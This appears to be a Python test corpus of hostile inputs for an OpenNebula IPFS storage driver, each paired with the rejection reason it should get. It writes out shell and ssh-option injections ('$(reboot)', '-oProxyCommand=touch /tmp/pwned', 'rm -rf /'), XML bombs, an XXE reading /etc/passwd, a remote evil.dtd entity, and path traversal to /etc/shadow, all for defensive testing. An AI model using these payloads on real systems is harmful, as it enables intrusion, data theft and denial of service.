"""The hostile-input corpus: what OpenNebula, a user's template or an admin could hand each entry
point, grouped by entry point, each case with the reason its one failure line must give.

An entry point is ``datastore <action>`` (argv and base64 stdin as oned's DS driver manager sends
them), ``tm <action>`` (a transfer-file line's arguments), ``host <command>`` (the request the
transfer driver sends over ssh, written as the words ``tests.support.host_requests`` reads) or
``admin <command>`` (the ``one-ipfs`` CLI). ``{disk}``, ``{host}`` and ``{safe}`` in arguments
stand for the world's VM disk, host root and SAFE_DIRS folder.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

from tests.hostile.harness import CID

GARBAGE = "not valid base64"
DTD = "DTD or entities"
MALFORMED = "not well-formed"
BAD_IPFS_PATH = "not a valid IPFS path"
BAD_BACKUP = "is not a backup disk URL OpenNebula writes"
NOT_HOST = "not a host name"


@dataclass(frozen=True)
class Case:
    """One hostile input: the entry point, its words and stdin, and the reason the refusal names."""

    name: str
    entry: str
    args: tuple[str, ...]
    reason: str
    stdin: bytes = b""

    @property
    def id(self) -> str:
        return f"{self.entry.replace(' ', '-')}:{self.name}"


# ------------------------------------------------------------------------------- DS documents


def image(**fields: str) -> str:
    """An IMAGE as Image::to_xml writes it; ``fields`` replace or add elements (raw XML text)."""
    values = {
        "ID": "7",
        "NAME": "debian",
        "TYPE": "0",
        "PERSISTENT": "0",
        "SOURCE": "",
        "PATH": f"/ipfs/{CID}",
        "FORMAT": "raw",
        "FS": "",
        "SIZE": "10",
        "CLONING_ID": "-1",
        "TARGET_SNAPSHOT": "-1",
        "DATASTORE_ID": "100",
    }
    values.update(fields)
    body = "".join(f"<{name}>{value}</{name}>" for name, value in values.items())
    return f"<IMAGE>{body}<TEMPLATE><DEV_PREFIX>vd</DEV_PREFIX></TEMPLATE></IMAGE>"


def datastore(template: str = "<SAFE_DIRS>{safe}</SAFE_DIRS>", **fields: str) -> str:
    values = {"ID": "100", "NAME": "ipfs", "DS_MAD": "ipfs", "TM_MAD": "ipfs", "TYPE": "0"}
    values.update(fields)
    body = "".join(f"<{name}>{value}</{name}>" for name, value in values.items())
    return f"<DATASTORE>{body}<TEMPLATE>{template}</TEMPLATE></DATASTORE>"


def action(image_xml: str | None = None, datastore_xml: str | None = None) -> str:
    image_xml = image() if image_xml is None else image_xml
    datastore_xml = datastore() if datastore_xml is None else datastore_xml
    return f"<DS_DRIVER_ACTION_DATA>{image_xml}{datastore_xml}</DS_DRIVER_ACTION_DATA>"


def b64(text: str | bytes) -> bytes:
    return base64.b64encode(text.encode() if isinstance(text, str) else text)


def cdata(value: str) -> str:
    return f"<![CDATA[{value}]]>"


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>'
    f"<DS_DRIVER_ACTION_DATA>{image(PATH='&lol4;')}{datastore()}</DS_DRIVER_ACTION_DATA>"
)
QUADRATIC_BLOWUP = (
    f'<!DOCTYPE d [<!ENTITY a "{"x" * 50000}">]>'
    f"<DS_DRIVER_ACTION_DATA>{image(PATH='&a;' * 2000)}{datastore()}</DS_DRIVER_ACTION_DATA>"
)
EXTERNAL_ENTITY = (
    '<!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    f"<DS_DRIVER_ACTION_DATA>{image(PATH='&secret;')}{datastore()}</DS_DRIVER_ACTION_DATA>"
)
PARAMETER_ENTITY = (
    '<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://198.51.100.7/evil.dtd"> %remote;]>'
    f"<DS_DRIVER_ACTION_DATA>{image()}{datastore()}</DS_DRIVER_ACTION_DATA>"
)
EXTERNAL_DTD = (
    '<!DOCTYPE DS_DRIVER_ACTION_DATA SYSTEM "http://198.51.100.7/x.dtd">'
    f"<DS_DRIVER_ACTION_DATA>{image()}{datastore()}</DS_DRIVER_ACTION_DATA>"
)
XINCLUDE_PATH = (
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
)
DEEP = "<DS_DRIVER_ACTION_DATA>" + "<A>" * 200_000 + "</A>" * 200_000 + "</DS_DRIVER_ACTION_DATA>"

# (name, stdin, reason): refused by every DS action before it looks at any field.
PAYLOAD_GARBAGE: list[tuple[str, bytes, str]] = [
    ("empty stdin", b"", "no driver action on stdin"),
    ("blank stdin", b" \n\t ", "no driver action on stdin"),
    ("not base64", b"this is not base64!", GARBAGE),
    ("base64 cut short", b64(action())[:-3], GARBAGE),
    ("binary stdin", bytes(range(256)), GARBAGE),
    ("base64url alphabet", b64(action()).replace(b"+", b"-").replace(b"/", b"_") + b"-_", GARBAGE),
    ("shell in stdin", b"$(reboot)`id`;rm -rf /", GARBAGE),
    ("base64 of binary garbage", b64(bytes(range(256)) * 4), MALFORMED),
    ("base64 of plain text", b64("rm -rf /"), MALFORMED),
    ("base64 of json", b64('{"IMAGE": {"PATH": "/etc/passwd"}}'), MALFORMED),
    ("truncated xml", b64(action()[:-30]), MALFORMED),
    ("two roots", b64(action() + action()), MALFORMED),
    ("undefined entity", b64(action(image(PATH="&nosuch;"))), MALFORMED),
    ("invalid character reference", b64(action(image(PATH="&#0;"))), MALFORMED),
    ("NUL byte in xml", b64(action().replace("<PATH>", "<PATH>\0")), MALFORMED),
    (
        "latin-1 bytes declared utf-8",
        b64(('<?xml version="1.0" encoding="UTF-8"?>' + action(image(NAME="d\xe9bian"))).encode("latin-1")),
        MALFORMED,
    ),
    ("billion laughs", b64(BILLION_LAUGHS), DTD),
    ("quadratic blowup", b64(QUADRATIC_BLOWUP), DTD),
    ("external entity", b64(EXTERNAL_ENTITY), DTD),
    ("parameter entity", b64(PARAMETER_ENTITY), DTD),
    ("external DTD", b64(EXTERNAL_DTD), DTD),
    ("wrong root", b64("<VM><ID>1</ID></VM>"), "expected a DS_DRIVER_ACTION_DATA document"),
    ("no datastore", b64("<DS_DRIVER_ACTION_DATA>" + image() + "</DS_DRIVER_ACTION_DATA>"), "no DATASTORE"),
    ("deeply nested", b64(DEEP), "no DATASTORE"),
    ("datastore without id", b64(action(datastore_xml=datastore(ID=""))), "DATASTORE has no ID"),
    ("negative datastore id", b64(action(datastore_xml=datastore(ID="-100"))), "DATASTORE/ID must be"),
    ("datastore id with newline", b64(action(datastore_xml=datastore(ID="100\n1"))), "DATASTORE/ID must be"),
    ("huge payload", b"A" * ((16 << 20) + 4), "larger than 16 MiB"),
]

# (name, argv, reason): the object id argument and the calling convention.
ARGV_GARBAGE: list[tuple[str, tuple[str, ...], str]] = [
    ("no arguments", (), "got 0 arguments"),
    ("extra argument", ("7", "8", "9"), "got 3 arguments"),
    ("id with shell", ("7; reboot",), "non-negative whole number"),
    ("id is an option", ("--help",), "non-negative whole number"),
    ("negative id", ("-1",), "non-negative whole number"),
    ("id with newline", ("7\n",), "non-negative whole number"),
    ("arabic-indic digits", ("\u0667",), "non-negative whole number"),
    ("fullwidth digits", ("\uff17",), "non-negative whole number"),
    ("id too large", ("99999999999",), "non-negative whole number"),
    ("empty id", ("",), "non-negative whole number"),
]

DS_ACTIONS = (
    "cp",
    "stat",
    "clone",
    "mkfs",
    "rm",
    "monitor",
    "export",
    "snap_delete",
    "snap_revert",
    "snap_flatten",
    "restore",
    "increment_flatten",
)


def _ds(name: str, action_name: str, xml: str, reason: str) -> Case:
    return Case(name, f"datastore {action_name}", ("7",), reason, b64(xml))


def _image_cases(action_name: str, field: str, values: list[tuple[str, str, str]]) -> list[Case]:
    return [_ds(name, action_name, action(image(**{field: value})), reason) for name, value, reason in values]


HOSTILE_PATHS: list[tuple[str, str, str]] = [
    ("shell command", cdata("; rm -rf / #"), "absolute frontend path"),
    ("command substitution", cdata("$(reboot)"), "absolute frontend path"),
    ("backticks", cdata("`id`"), "absolute frontend path"),
    ("relative path", "../../etc/passwd", "absolute frontend path"),
    ("option as path", "-oProxyCommand=touch /tmp/pwned", "absolute frontend path"),
    ("restricted file", "/etc/shadow", "restricted folder"),
    ("dot-dot out of safe dir", "/var/tmp/../../etc/shadow", "restricted folder"),
    ("dot-dot from the world's safe dir", "{safe}/../canary", "restricted folder"),
    ("newline in path", cdata("/var/tmp/x\n/etc/passwd"), "absolute frontend path"),
    ("carriage return", "{safe}/x&#13;y", "does not exist"),
    ("missing file", "{safe}/missing.img", "does not exist"),
    ("a folder", "{safe}", "not a regular file"),
    ("device file", "/dev/zero", "restricted folder"),
    ("proc file", "/proc/self/environ", "restricted folder"),
    ("file url", "file:///etc/passwd", "absolute frontend path"),
    ("ftp url", "ftp://198.51.100.7/disk.img", "absolute frontend path"),
    ("ipfs path with shell", cdata(f"/ipfs/{CID};reboot"), BAD_IPFS_PATH),
    ("ipfs path with dot-dot", f"/ipfs/{CID}/../../etc/passwd", BAD_IPFS_PATH),
    ("ipfs path with newline", cdata(f"/ipfs/{CID}\n/ipfs/x"), BAD_IPFS_PATH),
    ("ipfs path not a cid", "/ipfs/not-a-cid", BAD_IPFS_PATH),
    ("ipfs path empty", "/ipfs/", BAD_IPFS_PATH),
    ("ipns option name", "/ipns/-oProxyCommand=x", BAD_IPFS_PATH),
    ("ipns local address", "/ipns/127.0.0.1", BAD_IPFS_PATH),
    ("fs prefix with garbage", "fs:/ipfs/$(id)", BAD_IPFS_PATH),
    ("upper-case scheme", f"IPFS://{CID}", BAD_IPFS_PATH),
    ("right-to-left override", f"/ipfs/{CID}/\u202egpj.exe", BAD_IPFS_PATH),
    ("fullwidth slashes", "\uff0fetc\uff0fpasswd", "absolute frontend path"),
    ("huge path", "/var/tmp/" + "a" * 100_000, "absolute frontend path"),
    ("huge ipfs path", f"/ipfs/{CID}/" + "a/" * 50_000, BAD_IPFS_PATH),
    (
        "backup disk with shell",
        cdata("rsync://100//0:ab12/var/lib/one/datastores/100/3/ab12/disk.0';id;'"),
        BAD_BACKUP,
    ),
    ("backup disk with dot-dot", "rsync://100//0:ab12/var/lib/one/../../../etc/disk.0", BAD_BACKUP),
    ("backup disk not a disk", "restic://100/4/0:ab12/etc/shadow", BAD_BACKUP),
    (
        "backup disk of ceph",
        "rsync+rbd://100//0:ab12/var/lib/one/datastores/100/3/ab12/disk.0.rbd2",
        "absolute frontend path",
    ),
]

HOSTILE_NUMBERS: list[tuple[str, str, str]] = [
    ("negative size", "-5", "IMAGE/SIZE must be"),
    ("absurd size", str(2**64), "IMAGE/SIZE must be"),
    ("size beyond what a host can deploy", str(1 << 40), "IMAGE/SIZE must be"),
    ("size in exponent form", "1e9", "IMAGE/SIZE must be"),
    ("size with shell", "10;reboot", "IMAGE/SIZE must be"),
    ("size with unicode digits", "\u0661\u0660", "IMAGE/SIZE must be"),
    ("huge size text", "9" * 100_000, "IMAGE/SIZE must be"),
]

DS_CASES: list[Case] = [
    *(
        Case(name, f"datastore {action_name}", ("7",), reason, stdin)
        for action_name in DS_ACTIONS
        for name, stdin, reason in PAYLOAD_GARBAGE
    ),
    *(
        Case(name, f"datastore {action_name}", argv, reason, b64(action()))
        for action_name in DS_ACTIONS
        for name, argv, reason in ARGV_GARBAGE
    ),
    Case("pre-6.8 argument not base64", "datastore cp", ("$(reboot)", "7"), "in the first argument"),
    Case("pre-6.8 xml bomb argument", "datastore stat", (b64(BILLION_LAUGHS).decode(), "7"), DTD),
    *_image_cases("cp", "PATH", HOSTILE_PATHS),
    *_image_cases("stat", "PATH", HOSTILE_PATHS[:16]),
    *_image_cases("cp", "SIZE", HOSTILE_NUMBERS),
    *_image_cases("mkfs", "SIZE", HOSTILE_NUMBERS),
    *_image_cases(
        "cp",
        "ID",
        [
            ("negative image id", "-7", "IMAGE/ID must be"),
            ("image id with shell", "7$(id)", "IMAGE/ID must be"),
            ("image id too large", str(2**31), "IMAGE/ID must be"),
        ],
    ),
    _ds("image without id", "cp", action(image(ID="")), "IMAGE has no ID"),
    _ds("xinclude of a frontend file", "cp", action(image(PATH=XINCLUDE_PATH)), "absolute frontend path"),
    _ds("image without anything", "cp", action("<IMAGE/>"), "IMAGE has no ID"),
    _ds("no image", "cp", action(""), "carries no IMAGE"),
    _ds("no image", "mkfs", action(""), "carries no IMAGE"),
    _ds("no image", "clone", action(""), "carries no IMAGE"),
    _ds("no image", "rm", action(""), "carries no IMAGE"),
    _ds("no image", "export", action(""), "carries no IMAGE"),
    _ds("persistent maybe", "cp", action(image(PERSISTENT="maybe")), "IMAGE/PERSISTENT must be"),
    _ds("type with shell", "cp", action(image(TYPE="OS;reboot")), "IMAGE/TYPE must be"),
    _ds("cloning id negative", "clone", action(image(CLONING_ID="-2")), "IMAGE/CLONING_ID must be"),
    _ds("snapshot id garbage", "snap_revert", action(image(TARGET_SNAPSHOT="x")), "TARGET_SNAPSHOT must be"),
    _ds("zero size datablock", "mkfs", action(image(SIZE="0", PATH="")), "greater than 0"),
    _ds("datablock without size", "mkfs", action(image(SIZE="", PATH="")), "greater than 0"),
    _ds("filesystem with shell", "mkfs", action(image(FS="ext4; reboot", PATH="")), "FS must be one of"),
    _ds("filesystem as path", "mkfs", action(image(FS="../../../bin/sh", PATH="")), "FS must be one of"),
    _ds("filesystem as option", "mkfs", action(image(FS="-oX", PATH="")), "FS must be one of"),
    _ds(
        "format with backing file",
        "mkfs",
        action(image(FORMAT="qcow2 -o backing_file=/etc/shadow", PATH="")),
        "FORMAT must be raw or qcow2",
    ),
    _ds("format vmdk", "mkfs", action(image(FORMAT="vmdk", PATH="")), "FORMAT must be raw or qcow2"),
    *_image_cases(
        "clone",
        "PATH",
        [
            ("handle with shell", "one-ipfs/ds100/img7;reboot", BAD_IPFS_PATH),
            ("handle with newline", cdata("one-ipfs/ds100/img7\n"), BAD_IPFS_PATH),
            ("handle with dot-dot", "one-ipfs/ds100/../img7", BAD_IPFS_PATH),
            ("handle with huge number", "one-ipfs/ds100/img99999999999", BAD_IPFS_PATH),
            ("source is a frontend file", "/etc/passwd", BAD_IPFS_PATH),
            ("source is an option", "-oProxyCommand=x", BAD_IPFS_PATH),
            ("empty source", "", BAD_IPFS_PATH),
        ],
    ),
    *_image_cases(
        "export",
        "SOURCE",
        [
            ("source with shell", cdata("/ipfs/x;reboot"), BAD_IPFS_PATH),
            ("handle with newline", cdata("one-ipfs/ds100/img7\n"), BAD_IPFS_PATH),
            ("source is a url", "http://198.51.100.7/x", BAD_IPFS_PATH),
        ],
    ),
    _ds(
        "handle of another image",
        "rm",
        action(image(ID="8", SOURCE="one-ipfs/ds100/img7")),
        "belongs to image 7",
    ),
    _ds(
        "handle of another datastore",
        "rm",
        action(image(SOURCE="one-ipfs/ds101/img7")),
        "belongs to image 7 of datastore 101",
    ),
    _ds(
        "versions with shell",
        "rm",
        action(
            image(SOURCE="one-ipfs/ds100/img7").replace(
                "<DEV_PREFIX>", "<IPFS_VERSIONS>1:$(id)</IPFS_VERSIONS><DEV_PREFIX>"
            )
        ),
        "malformed entry",
    ),
    _ds(
        "versions with a bad cid",
        "rm",
        action(
            image(SOURCE="one-ipfs/ds100/img7").replace(
                "<DEV_PREFIX>", "<IPFS_VERSIONS>1:bafyx</IPFS_VERSIONS><DEV_PREFIX>"
            )
        ),
        "not a valid CID",
    ),
    *(
        _ds(
            name,
            "monitor",
            "<DS_DRIVER_ACTION_DATA>" + datastore(template) + "</DS_DRIVER_ACTION_DATA>",
            reason,
        )
        for name, template, reason in [
            (
                "api with shell",
                "<IPFS_API>http://127.0.0.1:5001;reboot</IPFS_API>",
                "IPFS_API is not an RPC address",
            ),
            ("api with spaces", "<IPFS_API>http://a b</IPFS_API>", "IPFS_API is not an RPC address"),
            (
                "api with credentials",
                "<IPFS_API>http://u:p@127.0.0.1:5001</IPFS_API>",
                "IPFS_API is not an RPC address",
            ),
            ("timeout not a number", "<IPFS_RPC_TIMEOUT>nan</IPFS_RPC_TIMEOUT>", "IPFS_RPC_TIMEOUT must be"),
            ("timeout infinite", "<IPFS_RPC_TIMEOUT>inf</IPFS_RPC_TIMEOUT>", "IPFS_RPC_TIMEOUT must be"),
            ("timeout negative", "<IPFS_RPC_TIMEOUT>-1</IPFS_RPC_TIMEOUT>", "IPFS_RPC_TIMEOUT must be"),
            (
                "timeout absurd",
                "<IPFS_TRANSFER_TIMEOUT>1e309</IPFS_TRANSFER_TIMEOUT>",
                "IPFS_TRANSFER_TIMEOUT must be",
            ),
            ("chunker rabin", "<IPFS_CHUNKER>rabin</IPFS_CHUNKER>", "IPFS_CHUNKER must"),
            ("chunker zero", "<IPFS_CHUNKER>size-0</IPFS_CHUNKER>", "IPFS_CHUNKER must"),
            ("hash with shell", "<IPFS_HASH>sha2-256;id</IPFS_HASH>", "IPFS_HASH is not"),
            ("deploy mode unknown", "<IPFS_DEPLOY_MODE>LINK</IPFS_DEPLOY_MODE>", "IPFS_DEPLOY_MODE must be"),
            (
                "cache size negative",
                "<IPFS_HOST_CACHE_MB>-1</IPFS_HOST_CACHE_MB>",
                "IPFS_HOST_CACHE_MB must be",
            ),
            ("raw leaves maybe", "<IPFS_RAW_LEAVES>maybe</IPFS_RAW_LEAVES>", "IPFS_RAW_LEAVES must be"),
        ]
    ),
]

# --------------------------------------------------------------------------------- TM actions

DISK = "h1:/var/lib/one//datastores/0/42/disk.0"
VM_DIR = "h1:/var/lib/one//datastores/0/42"
SOURCE = f"fe:/ipfs/{CID}"
HANDLE = "one-ipfs/ds100/img7"

# (name, host:path text, reason): every host:path argument position gets each of these.
HOSTILE_LOCATIONS: list[tuple[str, str, str]] = [
    (
        "host is an ssh option",
        "-oProxyCommand=touch /tmp/pwned:/var/lib/one/datastores/0/42/disk.0",
        NOT_HOST,
    ),
    ("host is a port option", "-p2222:/var/lib/one/datastores/0/42/disk.0", NOT_HOST),
    ("host with shell", "h1;reboot:/var/lib/one/datastores/0/42/disk.0", NOT_HOST),
    ("host with command substitution", "$(id):/var/lib/one/datastores/0/42/disk.0", NOT_HOST),
    ("host with user", "root@h1:/var/lib/one/datastores/0/42/disk.0", NOT_HOST),
    ("host with unicode dotless i", "h\u0131:/var/lib/one/datastores/0/42/disk.0", NOT_HOST),
    ("empty host", ":/var/lib/one/datastores/0/42/disk.0", NOT_HOST),
    ("no colon", "/var/lib/one/datastores/0/42/disk.0", "not a host:path argument"),
    ("relative path", "h1:var/lib/one/datastores/0/42/disk.0", "not absolute"),
    ("dot-dot path", "h1:/var/lib/one/datastores/0/42/../../../../../etc/shadow", "may not contain '..'"),
    ("path with shell", "h1:/var/lib/one/datastores/0/42/disk.0;reboot", "may not contain ';'"),
    ("path with newline", "h1:/var/lib/one/datastores/0/42/disk.0\nreboot", "may not contain '\\n'"),
    ("path with NUL", "h1:/var/lib/one/datastores/0/42/disk.0\0", "may not contain '\\x00'"),
    ("path with quote", "h1:/var/lib/one/datastores/0/42/disk.0'", "may not contain"),
    ("path with space", "h1:/var/lib/one/datastores/0/42/disk 0", "may not contain ' '"),
    ("path with right-to-left override", "h1:/var/lib/one/datastores/0/42/\u202edisk.0", "may not contain"),
    ("huge location", "h1:/" + "a/" * 5000, "more than 4096 characters"),
]

# (name, value, reason): every id argument position gets each of these.
HOSTILE_IDS: list[tuple[str, str, str]] = [
    ("shell", "42;reboot", "must be a non-negative integer"),
    ("negative", "-42", "must be a non-negative integer"),
    ("option", "--help", "must be a non-negative integer"),
    ("superscript digit", "\u00b2", "must be a non-negative integer"),
    ("arabic-indic digits", "\u0664\u0662", "must be a non-negative integer"),
    ("absurd", "9" * 40, "must be a non-negative integer"),
    ("empty", "", "must be a non-negative integer"),
]


def _tm(name: str, action_name: str, args: tuple[str, ...], reason: str, stdin: bytes = b"") -> Case:
    return Case(name, f"tm {action_name}", args, reason, stdin)


# Each action's valid arguments, the positions of its host:path and id arguments, and its usage.
TM_SHAPES: dict[str, tuple[tuple[str, ...], tuple[int, ...], tuple[int, ...]]] = {
    "clone": ((SOURCE, DISK, "42", "100"), (1,), (2, 3)),
    "ln": ((f"fe:{HANDLE}", DISK, "42", "100"), (1,), (2, 3)),
    "mvds": ((DISK, HANDLE, "42", "100"), (0,), (2, 3)),
    "cpds": ((DISK, HANDLE, "-1", "42", "100"), (0,), (3, 4)),
    "delete": ((DISK, "42", "0"), (0,), (1, 2)),
    "mv": ((DISK, DISK.replace("h1", "h2"), "42", "0"), (0, 1), (2, 3)),
    "snap_create": ((DISK, "1", "42", "100"), (0,), (1, 2, 3)),
    "snap_revert": ((DISK, "1", "42", "100"), (0,), (1, 2, 3)),
    "snap_delete": ((DISK, "1", "42", "100"), (0,), (1, 2, 3)),
    "resize": ((DISK, "2048", "42", "100"), (0,), (1, 2, 3)),
}
MIGRATION_ARGS = ("h1", "h2", "/var/lib/one//datastores/0/42", "42", "0")
VM_XML = (
    "<VM><ID>42</ID><STATE>3</STATE><LCM_STATE>3</LCM_STATE><TEMPLATE><DISK><DISK_ID>0</DISK_ID>"
    "<SOURCE>one-ipfs/ds100/img7</SOURCE><DATASTORE_ID>100</DATASTORE_ID><TM_MAD>ipfs</TM_MAD>"
    "</DISK></TEMPLATE></VM>"
)


def _with(args: tuple[str, ...], position: int, value: str) -> tuple[str, ...]:
    return (*args[:position], value, *args[position + 1 :])


def _shape_cases() -> list[Case]:
    cases = []
    for action_name, (args, locations, ids) in TM_SHAPES.items():
        cases.append(_tm("no arguments", action_name, (), f"expected {len(args)} arguments"))
        cases.append(_tm("missing argument", action_name, args[:-1], f"expected {len(args)} arguments"))
        cases.append(_tm("extra argument", action_name, (*args, "x"), f"expected {len(args)} arguments"))
        for position in locations:
            for name, value, reason in HOSTILE_LOCATIONS:
                cases.append(
                    _tm(f"{name} (arg {position + 1})", action_name, _with(args, position, value), reason)
                )
        for position in ids:
            for name, value, reason in HOSTILE_IDS:
                cases.append(
                    _tm(f"{name} id (arg {position + 1})", action_name, _with(args, position, value), reason)
                )
    return cases


TM_CASES: list[Case] = [
    *_shape_cases(),
    *(
        _tm(name, action_name, (value, DISK, "42", "100"), reason)
        for action_name in ("clone", "ln")
        for name, value, reason in [
            ("source with shell", f"fe:/ipfs/{CID};reboot", BAD_IPFS_PATH),
            ("source with command substitution", "fe:$(reboot)", BAD_IPFS_PATH),
            ("source is a frontend file", "fe:/etc/shadow", BAD_IPFS_PATH),
            ("source with dot-dot", f"fe:/ipfs/{CID}/../x", BAD_IPFS_PATH),
            ("source is an option", "-oProxyCommand=x", BAD_IPFS_PATH),
            ("handle with newline", f"fe:{HANDLE}\n", BAD_IPFS_PATH),
            ("handle with huge number", "fe:one-ipfs/ds100/img99999999999", BAD_IPFS_PATH),
        ]
    ),
    _tm("persistent disk of fixed content", "ln", (SOURCE, DISK, "42", "100"), "cannot be a persistent disk"),
    *(
        _tm(name, action_name, _with(TM_SHAPES[action_name][0], 1, value), reason)
        for action_name in ("mvds", "cpds")
        for name, value, reason in [
            ("target is fixed content", f"/ipfs/{CID}", "names fixed IPFS content"),
            ("target with shell", f"{HANDLE};reboot", "names fixed IPFS content"),
            ("target with newline", f"{HANDLE}\n", "names fixed IPFS content"),
        ]
    ),
    _tm(
        "snapshot id below -1", "cpds", _with(TM_SHAPES["cpds"][0], 2, "-2"), "must be a non-negative integer"
    ),
    _tm(
        "disk is not a disk",
        "snap_create",
        _with(TM_SHAPES["snap_create"][0], 0, VM_DIR),
        "not a VM disk path",
    ),
    _tm("unknown system datastore suffix", "clone.evil", TM_SHAPES["clone"][0], "does not work with system"),
    _tm("suffix with shell", "clone.ssh;reboot", TM_SHAPES["clone"][0], "does not work with system"),
    _tm("unknown action", "format_host", (), "has no action"),
    *(
        _tm(name, step, args, reason, stdin)
        for step in ("premigrate", "postmigrate", "failmigrate")
        for name, args, stdin, reason in [
            ("no arguments", (), b"", "expected 5 or 6 arguments"),
            ("four arguments", MIGRATION_ARGS[:4], b64(VM_XML), "expected 5 or 6 arguments"),
            ("seven arguments", (*MIGRATION_ARGS, "ipfs", "x"), b64(VM_XML), "expected 5 or 6 arguments"),
            ("source host is an option", _with(MIGRATION_ARGS, 0, "-oProxyCommand=x"), b64(VM_XML), NOT_HOST),
            ("target host is an option", _with(MIGRATION_ARGS, 1, "-oProxyCommand=x"), b64(VM_XML), NOT_HOST),
            (
                "target host with path",
                _with(MIGRATION_ARGS, 1, "h2:/etc"),
                b64(VM_XML),
                "may not contain ':'",
            ),
            ("dir with dot-dot", _with(MIGRATION_ARGS, 2, "/var/lib/one/../../etc"), b64(VM_XML), "'..'"),
            ("relative dir", _with(MIGRATION_ARGS, 2, "etc"), b64(VM_XML), "not absolute"),
            ("vm id with shell", _with(MIGRATION_ARGS, 3, "42;id"), b64(VM_XML), "non-negative integer"),
            ("stdin not base64", MIGRATION_ARGS, b"<VM>", "not base64-encoded XML"),
            ("stdin not utf-8", MIGRATION_ARGS, b64(b"\xff\xfe<VM/>"), "not base64-encoded XML"),
            (
                "stdin xml bomb",
                MIGRATION_ARGS,
                b64(BILLION_LAUGHS.replace("DS_DRIVER_ACTION_DATA", "VM")),
                DTD,
            ),
            ("stdin wrong root", MIGRATION_ARGS, b64(action()), "expected a VM document"),
            ("stdin vm without id", MIGRATION_ARGS, b64("<VM><STATE>3</STATE></VM>"), "VM has no ID"),
            (
                "stdin disk size negative",
                MIGRATION_ARGS,
                b64(VM_XML.replace("<DISK_ID>0</DISK_ID>", "<DISK_ID>0</DISK_ID><SIZE>-1</SIZE>")),
                "DISK/SIZE must be",
            ),
            ("stdin huge", MIGRATION_ARGS, b"A" * ((16 << 20) + 4), "too large"),
        ]
    ),
    *(
        _tm(name, "monitor", argv, reason, stdin)
        for name, stdin, reason in PAYLOAD_GARBAGE[::3]
        for argv in [("100",)]
    ),
    _tm("monitor id with shell", "monitor", ("100;id",), "non-negative whole number", b64(action())),
]

# ------------------------------------------------------------------------------- host commands

HOST_DISK = "{host}/datastores/0/42/disk.0"
HOST_CASES: list[Case] = [
    Case(name, "host " + words[0], tuple(words), reason)
    for name, words, reason in [
        ("no command", [""], "unknown host command"),
        ("unknown command", ["format-host"], "unknown host command"),
        ("command with shell", ["fetch;reboot"], "unknown host command"),
        ("missing cid", ["fetch", "--disk", HOST_DISK], "required"),
        (
            "cid is an option",
            ["fetch", "--cid", "-oProxyCommand=x", "--disk", HOST_DISK],
            "not a valid CID",
        ),
        ("cid with shell", ["fetch", "--cid", f"{CID};reboot", "--disk", HOST_DISK], "not a valid CID"),
        ("cid is a path", ["fetch", "--cid", f"/ipfs/{CID}", "--disk", HOST_DISK], "not a valid CID"),
        ("cid with dot-dot", ["fetch", "--cid", "../../etc/passwd", "--disk", HOST_DISK], "not a valid CID"),
        ("cid with newline", ["fetch", "--cid", f"{CID}\n", "--disk", HOST_DISK], "not a valid CID"),
        ("cid huge", ["fetch", "--cid", "b" + "a" * 100_000, "--disk", HOST_DISK], "not a valid CID"),
        ("disk relative", ["fetch", "--cid", CID, "--disk", "datastores/0/42/disk.0"], "absolute path"),
        (
            "disk dot-dot",
            ["fetch", "--cid", CID, "--disk", "{host}/datastores/0/42/../../../../etc/passwd"],
            "'..'",
        ),
        ("disk not in a VM folder", ["fetch", "--cid", CID, "--disk", "/etc/passwd"], "VM folder"),
        ("datastore at the root", ["fetch", "--cid", CID, "--disk", "/0/42/disk.0"], "VM folder"),
        (
            "disk format unknown",
            ["fetch", "--cid", CID, "--disk", HOST_DISK, "--disk-format", "vmdk"],
            "must be one of",
        ),
        ("disk with newline", ["fetch", "--cid", CID, "--disk", HOST_DISK + "\n"], "absolute path"),
        ("disk with NUL", ["fetch", "--cid", CID, "--disk", HOST_DISK + "\0"], "absolute path"),
        ("disk is an option", ["fetch", "--cid", CID, "--disk", "--help"], "absolute path"),
        (
            "disk is a folder",
            ["fetch", "--cid", CID, "--disk", "{host}/datastores/0/42"],
            "not a disk in a VM folder",
        ),
        (
            "disk in the cache",
            ["fetch", "--cid", CID, "--disk", "{host}/datastores/.one-ipfs-cache/x/1/disk.0"],
            "VM folder",
        ),
        ("disk partial file", ["fetch", "--cid", CID, "--disk", HOST_DISK + ".part"], "not a disk file name"),
        (
            "disk hidden file",
            ["fetch", "--cid", CID, "--disk", "{host}/datastores/0/42/.monitor"],
            "not a disk file name",
        ),
        ("size negative", ["fetch", "--cid", CID, "--disk", HOST_DISK, "--size-mb", "-1"], "whole number"),
        ("size absurd", ["fetch", "--cid", CID, "--disk", HOST_DISK, "--size-mb", "9" * 30], "whole number"),
        (
            "size too large",
            ["fetch", "--cid", CID, "--disk", HOST_DISK, "--size-mb", str(1 << 30)],
            "between",
        ),
        (
            "size unicode digits",
            ["fetch", "--cid", CID, "--disk", HOST_DISK, "--size-mb", "\u0664"],
            "whole number",
        ),
        (
            "api elsewhere",
            ["fetch", "--cid", CID, "--disk", HOST_DISK, "--api", "http://198.51.100.7:5001"],
            "loopback",
        ),
        (
            "api with credentials",
            ["has", "--cid", CID, "--api", "http://127.0.0.1:5001@198.51.100.7"],
            "not a Kubo RPC address",
        ),
        (
            "api with path",
            ["has", "--cid", CID, "--api", "http://127.0.0.1:5001/../x"],
            "not a Kubo RPC address",
        ),
        (
            "api port not a number",
            ["has", "--cid", CID, "--api", "http://127.0.0.1:5001.evil.example"],
            "not a Kubo RPC address",
        ),
        ("timeout zero", ["fetch", "--cid", CID, "--disk", HOST_DISK, "--timeout", "0"], "timeout"),
        ("timeout nan", ["fetch", "--cid", CID, "--disk", HOST_DISK, "--timeout", "nan"], "timeout"),
        ("timeout infinite", ["fetch", "--cid", CID, "--disk", HOST_DISK, "--timeout", "inf"], "timeout"),
